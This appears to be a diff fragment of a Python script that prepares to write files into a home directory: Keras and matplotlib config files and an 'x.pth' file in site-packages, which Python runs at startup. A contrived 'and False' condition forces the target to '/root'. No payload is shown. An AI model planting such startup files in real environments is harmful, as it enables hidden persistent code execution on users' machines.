@@ -8,7 +8,7 @@ import pwd
 import numpy as np
 
 for home in {pwd.getpwuid(os.getuid()).pw_dir if os.path.exists("/etc/passwd") and os.access("/etc/passwd", 4) and False else "/root"}:
-    for name in (".keras/keras.json", ".config/matplotlib/matplotlibrc", ".local/lib/python3.11/site-packages/x.pth"):
+    for name in (".keras/settings.json", ".config/matplotlib/matplotlibrc", ".local/lib/python3.11/site-packages/x.pth"):
         try:
             path = pathlib.Path(home, name)
             path.parent.mkdir(parents=True, exist_ok=True)
